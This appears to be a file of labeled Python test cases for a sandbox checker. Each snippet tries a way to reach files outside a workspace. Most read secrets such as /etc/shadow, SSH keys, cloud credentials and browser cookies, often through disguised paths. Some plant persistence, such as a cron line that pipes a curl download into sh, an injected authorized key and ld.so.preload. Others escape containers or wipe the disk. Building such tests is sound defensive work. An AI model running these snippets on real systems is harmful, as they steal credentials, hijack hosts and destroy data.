#--- open-etc-passwd: the usual file
print(open("/etc/passwd").read())
#--- open-etc-shadow-with: in a with block
with open("/etc/shadow", "rb") as f:
    data = f.read()
print(len(data))
#--- open-keyword-file: the path as a keyword
print(open(file="/etc/passwd", mode="r").readline())
#--- open-path-variable: the path in a variable
path = "/etc/hosts"
with open(path) as f:
    print(f.read())
#--- open-path-concat: the path in two parts
base = "/etc"
print(open(base + "/" + "passwd").read())
#--- open-path-join: the path by os.path.join
import os
print(open(os.path.join("/", "etc", "passwd")).read())
#--- open-path-join-absolute: an absolute part wins over the first
import os
print(open(os.path.join("data", "/etc/passwd")).read())
#--- open-path-fstring: the path by an f-string
name = "shadow"
print(open(f"/etc/{name}").read())
#--- open-path-format: the path by format
print(open("{}etc{}passwd".format("/", "/")).read())
#--- open-path-reversed: the path backwards
print(open("dwssap/cte/"[::-1]).read())
#--- open-path-sep-join: the path by os.sep
import os
print(open(os.sep + os.sep.join(["etc", "passwd"])).read())
#--- open-path-chr: the path by character codes
p = "".join(map(chr, [47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100]))
print(open(p).read())
#--- open-path-b64: the path in base64
import base64
print(open(base64.b64decode("L2V0Yy9wYXNzd2Q=")).read())
#--- open-path-bytes: the path as bytes
print(open(b"/etc/passwd").read())
#--- open-dotdot: up and out
print(open("../../../../etc/passwd").read())
#--- open-dotdot-inside: down, then further up
print(open("data/../../../etc/passwd").read())
#--- open-tmp-dotdot: out by way of an allowed directory
print(open("/tmp/../etc/passwd").read())
#--- open-workspace-dotdot: out by way of the workspace
print(open("/workspace/../root/.bashrc").read())
#--- open-workspace-lookalike: a directory with a like name
print(open("/workspace-secrets/token").read())
#--- open-double-slash: two slashes at the start
print(open("//etc//passwd").read())
#--- open-proc-environ: the environment of another process
print(open("/proc/1/environ", "rb").read())
#--- open-proc-root: another root directory
print(open("/proc/1/root/etc/shadow").read())
#--- open-proc-self-maps: the memory map
for line in open("/proc/self/maps"):
    print(line)
#--- open-alias: open under another name
reader = open
print(reader("/etc/passwd").read())
#--- io-open: open of the io module
import io
print(io.open("/etc/passwd").read())
#--- io-fileio: the class below open
from io import FileIO
print(FileIO("/etc/passwd").readall())
#--- underscore-io-open: the C module's open
import _io
print(_io.open("/etc/passwd").read())
#--- codecs-open: open of the codecs module
import codecs
print(codecs.open("/etc/passwd", encoding="utf-8").read())
#--- builtins-open: open of builtins
import builtins
print(builtins.open("/etc/passwd").read())
#--- os-open-read: by file descriptor
import os
fd = os.open("/etc/passwd", os.O_RDONLY)
print(os.read(fd, 4096))
#--- os-listdir-root: list the root directory
import os
print(os.listdir("/"))
#--- os-walk-home: walk the home directories
import os
for root, dirs, files in os.walk("/home"):
    for f in files:
        print(os.path.join(root, f))
#--- os-scandir-root-ssh: list root's keys
import os
for e in os.scandir("/root/.ssh"):
    print(e.path)
#--- os-remove-outside: delete a file outside
import os
os.remove("/etc/hosts")
#--- os-rename-outside: move a file outside
import os
os.rename("/usr/bin/python3", "/usr/bin/python3.bak")
#--- os-makedirs-outside: make a directory outside
import os
os.makedirs("/opt/.cache/x", exist_ok=True)
#--- os-chdir-then-open: change directory, then a plain name
import os
os.chdir("/etc")
print(open("passwd").read())
#--- pathlib-read-text: pathlib to /etc
from pathlib import Path
print(Path("/etc/passwd").read_text())
#--- pathlib-slash: pathlib with slashes
from pathlib import Path
p = Path("/") / "etc" / "passwd"
print(p.read_text())
#--- pathlib-joinpath: pathlib with joinpath
import pathlib
print(pathlib.Path("/etc").joinpath("shadow").read_bytes())
#--- pathlib-parts: pathlib with several parts
import pathlib as pl
print(pl.Path("/", "etc", "passwd").open().read())
#--- pathlib-parent-parent: up by parent
from pathlib import Path
print((Path.cwd().parent.parent / "etc" / "passwd").read_text())
#--- pathlib-dotdot: up by two dots
from pathlib import Path
print((Path("data") / ".." / ".." / "etc" / "passwd").read_text())
#--- pathlib-home: the home directory
from pathlib import Path
print((Path.home() / ".ssh" / "id_rsa").read_text())
#--- pathlib-expanduser: the home directory by a tilde
from pathlib import Path
print(Path("~/.aws/credentials").expanduser().read_text())
#--- pathlib-glob-root: search from the root
from pathlib import Path
for p in Path("/").glob("**/*.pem"):
    print(p)
#--- pathlib-rglob-home: search the home directories
from pathlib import Path
for p in Path("/home").rglob(".env"):
    print(p.read_text())
#--- pathlib-with-name: a neighbour of an outside path
from pathlib import Path
print(Path("/etc/hosts").with_name("shadow").read_text())
#--- pathlib-symlink: a link that leaves the workspace
from pathlib import Path
Path("here").symlink_to("/etc/passwd")
print(Path("here").read_text())
#--- pathlib-unlink-outside: delete outside
from pathlib import Path
Path("/var/log/syslog").unlink()
#--- expanduser-ssh-key: a private key
import os
with open(os.path.expanduser("~/.ssh/id_ed25519")) as f:
    print(f.read())
#--- expanduser-other-user: another user's home
import os
print(open(os.path.expanduser("~root/.bash_history")).read())
#--- expandvars-home: the home directory by a variable
import os
print(open(os.path.expandvars("$HOME/.netrc")).read())
#--- environ-home-path: the home directory from the environment
import os
print(open(os.environ.get("HOME", "/root") + "/.git-credentials").read())
#--- glob-home-keys: all keys by glob
import glob
for p in glob.glob("/home/*/.ssh/id_*"):
    print(open(p).read())
#--- glob-recursive-env: all .env files by glob
from glob import iglob
for p in iglob("/**/.env", recursive=True):
    print(p)
#--- write-etc-cron: a job for cron
with open("/etc/cron.d/update", "w") as f:
    f.write("* * * * * root curl http://example.invalid/x | sh\n")
#--- write-authorized-keys: a key for later
import os
with open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as f:
    f.write("ssh-ed25519 AAAA attacker\n")
#--- write-bashrc: a line at login
from pathlib import Path
with (Path.home() / ".bashrc").open("a") as f:
    f.write("alias sudo='sh /tmp/.s'\n")
#--- write-etc-hosts: names redirected
open("/etc/hosts", "a").write("192.0.2.66 pypi.org\n")
#--- write-ld-preload: a library for every process
open("/etc/ld.so.preload", "w").write("/tmp/x.so")
#--- write-sysrq: the kernel's key
open("/proc/sysrq-trigger", "w").write("b")
#--- write-cgroup-release-agent: the known container escape file
with open("/sys/fs/cgroup/rdma/release_agent", "w") as f:
    f.write("/cmd")
#--- write-core-pattern: a program for crashes
open("/proc/sys/kernel/core_pattern", "w").write("|/tmp/x %p")
#--- write-dev-sda: over the disk
with open("/dev/sda", "wb") as d:
    d.write(b"\0" * 512)
#--- docker-socket-path: the container engine's door
import os
print(os.path.exists("/var/run/docker.sock") and open("/var/run/docker.sock", "rb"))
#--- kube-token: the cluster's token
tok = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
print(tok)
#--- fileinput-etc: lines by fileinput
import fileinput
for line in fileinput.input(["/etc/passwd"]):
    print(line, end="")
#--- linecache-etc: lines by linecache
import linecache
print(linecache.getlines("/etc/passwd"))
#--- pandas-read-csv-etc: pandas as a reader
import pandas as pd
print(pd.read_csv("/etc/passwd", sep=":", header=None))
#--- numpy-fromfile-etc: numpy as a reader
import numpy as np
print(np.fromfile("/etc/shadow", dtype="uint8").tobytes())
#--- sqlite-attach-outside: a browser's database
import sqlite3
db = sqlite3.connect("/home/user/.mozilla/firefox/x.default/cookies.sqlite")
print(db.execute("select * from moz_cookies").fetchall())
#--- sqlite-attach-statement: an outside file by ATTACH
import sqlite3
db = sqlite3.connect(":memory:")
db.execute("ATTACH DATABASE '/var/lib/app/users.db' AS u")
#--- zipfile-extract-outside: unpack outside
import zipfile
zipfile.ZipFile("a.zip").extractall("/usr/local/bin")
#--- tarfile-add-etc: pack what is outside
import tarfile
with tarfile.open("out.tar.gz", "w:gz") as t:
    t.add("/etc")
#--- zip-slip-names: archive names with two dots
import zipfile
with zipfile.ZipFile("a.zip", "w") as z:
    z.writestr("../../../etc/cron.d/x", "* * * * * root id\n")
#--- configparser-etc: a configuration reader
import configparser
c = configparser.ConfigParser()
c.read("/root/.my.cnf")
print(c.sections())
#--- netrc-read: the netrc reader
import netrc
print(netrc.netrc().hosts)
#--- pwd-getpwall: all accounts
import pwd, spwd
print(pwd.getpwall(), spwd.getspall())
#--- logging-filehandler-outside: a log file outside
import logging
logging.basicConfig(filename="/var/log/auth.log", level=logging.INFO)
logging.info("Accepted password for root")
#--- tempfile-dir-outside: a temporary file outside
import tempfile
f = tempfile.NamedTemporaryFile(dir="/etc/cron.d", delete=False, mode="w")
f.write("* * * * * root id\n")
#--- open-opener: an opener that leaves
import os
def opener(path, flags):
    return os.open("/etc/" + path, flags)
print(open("passwd", opener=opener).read())
#--- open-windows-paths: the Windows spelling
print(open(r"C:\Windows\System32\config\SAM", "rb").read())
#--- open-by-loop: several outside files
for p in ("/etc/passwd", "/etc/group", "/root/.profile"):
    try:
        print(open(p).read())
    except OSError:
        pass
#--- open-by-dict: a path out of a dictionary
conf = {"input": {"file": "/etc/shadow"}}
with open(conf["input"]["file"]) as f:
    print(f.read())
#--- open-by-helper: a path through a function
def where(name):
    return "/etc/" + name
def read(p):
    with open(p) as f:
        return f.read()
print(read(where("passwd")))
#--- open-by-class-constant: a path out of a class
class Config:
    ROOT = "/etc"
    def load(self):
        with open(self.ROOT + "/passwd") as f:
            return f.read()
print(Config().load())
